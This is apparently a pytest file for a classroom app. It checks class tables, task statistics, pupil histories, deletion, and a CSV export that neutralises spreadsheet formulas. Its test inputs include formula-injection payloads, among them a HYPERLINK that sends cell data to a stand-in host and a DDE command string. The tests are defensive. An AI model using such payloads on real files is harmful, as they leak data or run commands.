"""The teacher's queries: the class table, per-task statistics with common wrong answers, a
pupil's history, CSV export that no spreadsheet can turn into a formula, and deleting."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from elevenkit.classroom import queries
from elevenkit.classroom.identity import is_database_url
from elevenkit.classroom.model import AnswerRecord, Outcome
from elevenkit.classroom.names import normal_name
from elevenkit.classroom.store import ClassroomStore
from elevenkit.exercises.attempts import ANSWER_SHOWN, MOVED_ON, TASK_PART, TASK_SOLVED

RIGHT, NOT_YET, WRONG = Outcome.RIGHT, Outcome.NOT_YET, Outcome.WRONG


@pytest.fixture
def store(database: str) -> Iterator[ClassroomStore]:
    """A new database (SQLite and PostgreSQL) in which the teacher has made the classes 4B and 4C."""
    with ClassroomStore(database) as opened:
        opened.create_class("4B")
        opened.create_class("4C")
        yield opened


def _answers(store: ClassroomStore, class_code: str, nickname: str, *answers: tuple) -> None:
    """Save ``(activity, task number, answer, outcome, category, hints)`` answers in order."""
    code = store.claim(class_code, nickname).pupil_code or ""
    for activity, number, answer, outcome, category, hints in answers:
        record = AnswerRecord(activity, number, 7, answer, outcome, category=category, hints=hints)
        store.add_answer(class_code, nickname, code, record)


@pytest.fixture
def lesson(store: ClassroomStore) -> ClassroomStore:
    _answers(
        store,
        "4B",
        "Mia",
        ("capture", 0, "6", WRONG, "adds instead of subtracts", 0),
        ("capture", 0, "5", NOT_YET, "", 1),
        ("capture", 0, "4", RIGHT, "", 2),
        ("capture", 1, "9", RIGHT, "", 0),
        ("clock", 0, "3", RIGHT, "", 0),
    )
    _answers(
        store,
        "4B",
        "Ben",
        ("capture", 0, "6", WRONG, "adds instead of subtracts", 0),
        ("capture", 0, "6", WRONG, "adds instead of subtracts", 1),
        ("capture", 0, "2", WRONG, "counts the wild twice", 1),
        ("capture", 0, "8", WRONG, "forgets the 1-11", 1),
        ("capture", 0, "4", RIGHT, "", 3),
    )
    store.claim("4B", "Zoe")  # joined, has not answered yet
    _answers(store, "4C", "Mia", ("capture", 0, "6", WRONG, "adds instead of subtracts", 0))
    return store


def test_the_class_table_counts_tasks_right_tried_hints_and_last_answer(lesson: ClassroomStore) -> None:
    table = queries.class_table(lesson, "4b")
    assert table.class_code == "4B"
    assert table.pupils == ("Ben", "Mia", "Zoe") and table.activities == ("capture", "clock")
    mia, ben = table.cell("Mia", "capture"), table.cell("Ben", "capture")
    assert mia is not None and ben is not None
    assert (mia.done, mia.right, mia.tried, mia.hints) == (2, 2, 3, 2)  # "not yet" is not tried
    assert (ben.done, ben.right, ben.tried, ben.hints) == (1, 1, 5, 3)  # hints: most open per task
    assert table.cell("Ben", "clock") is None and table.cell("Zoe", "capture") is None
    assert table.last_active["Mia"] == max(a.at for a in queries.history(lesson, "4B", "Mia"))
    assert "Zoe" not in table.last_active


def test_task_stats_count_pupils_who_solved_saw_the_answer_or_moved_on_not_answers(store: ClassroomStore) -> None:
    _answers(store, "4B", "Mia", ("capture", 0, "4", RIGHT, TASK_PART, 0), ("capture", 0, "", NOT_YET, MOVED_ON, 0))
    _answers(store, "4B", "Ben", ("capture", 0, "", NOT_YET, ANSWER_SHOWN, 2))
    _answers(store, "4B", "Lea", *[("capture", 0, "6", WRONG, "", 0)] * 5, ("capture", 0, "4", RIGHT, TASK_SOLVED, 0))
    _answers(store, "4B", "Kim", ("capture", 0, "4", RIGHT, TASK_SOLVED, 0))
    _answers(store, "4B", "Tom", ("capture", 1, "", NOT_YET, MOVED_ON, 0))  # only moved on: a row all the same
    first, second = queries.task_stats(store, "4B")
    assert (first.pupils, first.pupils_right, first.shown, first.moved_on) == (4, 2, 1, 1)
    assert first.share_right == 0.5, "2 of 4 pupils solved it (3 of 8 answers were right)"
    assert (second.task_id, second.pupils, second.pupils_right, second.moved_on) == ("7:1", 1, 0, 1)


def test_task_stats_give_the_share_right_and_the_most_common_wrong_answers(lesson: ClassroomStore) -> None:
    first, second = queries.task_stats(lesson, "4B", "capture")
    assert (first.task_id, first.tried, first.right, first.pupils, first.pupils_right) == ("7:0", 7, 2, 2, 2)
    assert first.share_right == 1.0, "both pupils who answered solved it (2 of 7 answers were right)"
    assert [(w.answer, w.category, w.count) for w in first.common_wrong] == [
        ("6", "adds instead of subtracts", 3),  # 4C's wrong 6 is another class
        ("2", "counts the wild twice", 1),
        ("8", "forgets the 1-11", 1),
    ]
    assert (second.task_id, second.share_right, second.common_wrong) == ("7:1", 1.0, ())
    assert [(s.activity, s.task_id) for s in queries.task_stats(lesson, "4B")] == [
        ("capture", "7:0"),
        ("capture", "7:1"),
        ("clock", "7:0"),
    ]
    assert queries.task_stats(lesson, "4B", "nothing") == []


def test_a_pupils_history_is_their_answers_in_order(lesson: ClassroomStore) -> None:
    history = queries.history(lesson, "4B", "ben")
    assert [(a.answer, a.outcome, a.hints) for a in history] == [
        ("6", WRONG, 0),
        ("6", WRONG, 1),
        ("2", WRONG, 1),
        ("8", WRONG, 1),
        ("4", RIGHT, 3),
    ]
    assert {a.nickname for a in history} == {"Ben"} and queries.history(lesson, "4B", "Nobody") == []


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "  =1+1",
    "\t=1+1",
    'say "hi", then\nleave',
]


def test_the_csv_export_reads_back_exactly_and_never_starts_a_cell_with_a_formula(store: ClassroomStore) -> None:
    for index, text in enumerate(DANGEROUS):  # a nickname is kept in its normal form, so number them
        _answers(store, "4B", f"{text} #{index}", ("capture", index, text, WRONG, text, 1))
    exported = queries.export_csv(store, "4B")
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert tuple(rows[0]) == queries.CSV_HEADER and len(rows) == len(DANGEROUS) + 1
    for index, (text, row) in enumerate(zip(DANGEROUS, rows[1:])):
        values = dict(zip(queries.CSV_HEADER, row))
        harmless = "hi" in text  # only the quoted, two-line answer starts without a formula sign
        for column, stored in (
            ("nickname", normal_name(f"{text} #{index}")),
            ("answer", text),
            ("misconception", text),
        ):
            cell = values[column]
            assert cell == (stored if harmless else "'" + stored)
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") and cell.lstrip()[:1] not in ("=", "+", "-", "@")
        assert (values["class"], values["outcome"], values["hints"]) == ("4B", "wrong", "1")
    assert exported.endswith("\r\n")


def test_deleting_a_pupil_removes_them_and_their_answers_from_the_file(database: str) -> None:
    with ClassroomStore(database) as store:
        store.create_class("4B")
        _answers(store, "4B", "Quetzalcoatl", ("capture", 0, "Tlaloc", WRONG, "", 0))
        _answers(store, "4B", "Mia", ("capture", 0, "4", RIGHT, "", 0))
        assert queries.delete_pupil(store, "4B", "quetzalcoatl") is True
        assert queries.delete_pupil(store, "4B", "quetzalcoatl") is False
        assert queries.class_table(store, "4B").pupils == ("Mia",)
        assert queries.history(store, "4B", "Quetzalcoatl") == []
        assert len(queries.task_stats(store, "4B")) == 1 and queries.task_stats(store, "4B")[0].tried == 1
    if is_database_url(database):
        return  # PostgreSQL frees the rows at its next vacuum: the guide says so
    on_disk = Path(database).read_bytes()  # closing checkpointed the WAL; secure_delete zeroed the freed rows
    assert b"Quetzalcoatl" not in on_disk and b"Tlaloc" not in on_disk and b"Mia" in on_disk


def test_deleting_a_class_removes_its_pupils_answers_and_links_but_no_other_class(lesson: ClassroomStore) -> None:
    code = lesson.link_code("4B", "/voila/render/capture-trainer.ipynb?class=4B")
    assert queries.delete_class(lesson, "4B") is True
    assert queries.delete_class(lesson, "4B") is False
    assert queries.classes(lesson) == ["4C"]
    assert lesson.link_target(code) is None
    assert lesson._read("SELECT count(*) FROM answers") == [(1,)]
    assert queries.class_table(lesson, "4B").pupils == ()
    assert [a.answer for a in queries.history(lesson, "4C", "Mia")] == ["6"]


def test_the_csv_export_has_the_level_and_the_question_of_each_answer(store: ClassroomStore) -> None:
    code = store.claim("4B", "Mia").pupil_code or ""
    questions = ["Which piles can take the card 32?", '=cmd|"/c calc"!A1, said "Mia"\n', ""]
    for number, question in enumerate(questions):
        record = AnswerRecord("clock", number, 7, "1", WRONG, question=question, level="medium" if question else "")
        store.add_answer("4B", "Mia", code, record)
    rows = list(csv.reader(io.StringIO(queries.export_csv(store, "4B"), newline="")))
    assert rows[0][4:8] == ["task", "seed", "level", "question"]
    values = [dict(zip(queries.CSV_HEADER, row)) for row in rows[1:]]
    assert [(v["task"], v["level"], v["question"]) for v in values] == [
        ("7:0", "medium", "Which piles can take the card 32?"),
        ("7:1", "medium", '\'=cmd|"/c calc"!A1, said "Mia"'),  # kept on one line, never a formula
        ("7:2", "", ""),
    ]


def test_a_task_only_moved_on_from_has_a_row_and_one_with_only_not_yet_has_none(store: ClassroomStore) -> None:
    """Only "not yet" was a "Task 3 … 0 of 0" row: nothing to read; moved on from, the pupil counts."""
    _answers(
        store,
        "4B",
        "Mia",
        ("capture", 0, "4", RIGHT, "", 0),
        ("capture", 1, "(moved on)", NOT_YET, MOVED_ON, 0),
        ("capture", 2, "5", NOT_YET, "", 1),
    )
    assert [(s.task_id, s.tried, s.pupils, s.moved_on) for s in queries.task_stats(store, "4B")] == [
        ("7:0", 1, 1, 0),
        ("7:1", 0, 1, 1),
    ]
